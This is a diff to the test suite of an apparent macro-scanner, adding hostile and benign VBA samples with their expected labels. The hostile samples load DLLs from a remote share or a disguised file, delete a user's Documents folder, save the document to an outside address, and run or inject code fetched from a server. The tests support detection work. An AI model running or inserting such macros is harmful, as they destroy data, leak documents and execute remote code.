@@ -360,6 +360,42 @@ suite('hostile macros', () => {
     ],
     'a command for an interpreter': [automatic('Shell "echo x | python"'), 'malicious AutoProgram'],
     'a program beside the document': [automatic('Shell ThisDocument.Path & "\\u.exe"'), 'suspicious AutoExecute'],
+    'a library of another computer': [
+      macroDocument('Declare Sub go Lib "\\\\203.0.113.7\\s\\a.dll" ()\nSub AutoOpen()\ngo\nEnd Sub'),
+      'malicious AutoProgram',
+    ],
+    'a library in a public folder, under another name': [
+      macroDocument('Declare Sub go Lib "C:\\Users\\Public\\a.txt" Alias "#1" ()\nSub AutoOpen()\ngo\nEnd Sub'),
+      'malicious AutoProgram',
+    ],
+    'a library that is found in another folder': [
+      macroDocument('Declare Sub go Lib "a.dll" ()\nSub AutoOpen()\nChDir Environ("TEMP")\ngo\nEnd Sub'),
+      'suspicious AutoExecute',
+    ],
+    'a verb of a file': [
+      automatic('CreateObject("Shell.Application").Namespace(Environ("TEMP")).ParseName("a.exe").InvokeVerb "open"'),
+      'malicious AutoProgram',
+    ],
+    'all documents of a user deleted': [
+      automatic('Kill "C:\\Users\\" & Environ("USERNAME") & "\\Documents\\*.*"'),
+      'malicious Destructive',
+    ],
+    'the document on a server without a name': [
+      automatic('ActiveDocument.SaveAs "\\\\203.0.113.7\\share\\x.docx"'),
+      'malicious Exfiltration',
+    ],
+    'the answer of a server as a command': [
+      automatic(
+        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://example.com/c", False\nx.send\nShell Trim(x.responseText)',
+      ),
+      'malicious Downloader',
+    ],
+    'the answer of a server as a module': [
+      automatic(
+        'Set x = CreateObject("WinHttp.WinHttpRequest.5.1")\nx.Open "GET", "https://example.com/c"\nx.send\nThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString x.ResponseText',
+      ),
+      'malicious Downloader',
+    ],
     'a workbook that closes': [
       macroDocument('Sub Workbook_BeforeClose(c)\nShell "cmd /c x"\nEnd Sub'),
       'malicious AutoProgram',
@@ -471,6 +507,20 @@ suite('harmless macros', () => {
       ['notice Network'],
     ],
     'temporary files deleted': [automatic('Kill Environ("TEMP") & "\\report_*.pdf"'), []],
+    'libraries of Windows and of an installed program': [
+      macroDocument(
+        'Declare Sub Sleep Lib "kernel32" ()\nDeclare Sub go Lib "C:\\Program Files\\ERP\\a.dll" ()\nSub AutoOpen()\nChDir ThisWorkbook.Path\nSleep 1\ngo\nEnd Sub',
+      ),
+      [],
+    ],
+    'files of a program deleted': [automatic('Kill Environ("USERPROFILE") & "\\Documents\\ERP\\*.tmp"'), []],
+    'the document on a server of the company': [automatic('ActiveDocument.SaveAs "\\\\nas01\\share\\x.docx"'), []],
+    'the answer of a server in a cell, and as JSON by a click': [
+      manual(
+        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "https://example.com/c", False\nx.send\nRange("A1") = x.responseText\nSet j = CreateObject("ScriptControl").Eval("(" & x.responseText & ")")',
+      ),
+      ['notice Network'],
+    ],
     'a backup on closing': [
       macroDocument('Sub Workbook_BeforeClose(c)\nShell "xcopy C:\\a.xlsm D:\\b /Y", vbHide\nEnd Sub'),
       ['notice AutoCommand'],
